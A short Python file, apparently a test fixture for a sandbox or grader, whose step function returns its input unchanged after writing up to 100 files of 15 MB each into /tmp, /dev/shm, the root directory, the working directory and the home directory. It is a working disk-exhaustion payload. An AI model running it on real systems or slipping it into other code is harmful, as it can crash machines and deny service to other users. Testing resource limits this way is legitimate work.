"""The function fills every place to which it may write."""

LOST = ["step"]


def step(z):
    import os

    for folder in ("/tmp", ".", "/dev/shm", "/", os.path.expanduser("~")):
        for i in range(100):
            try:
                with open(f"{folder}/full_{i}", "wb") as file:
                    file.write(bytes(15 << 20))
            except OSError:
                break
    return z
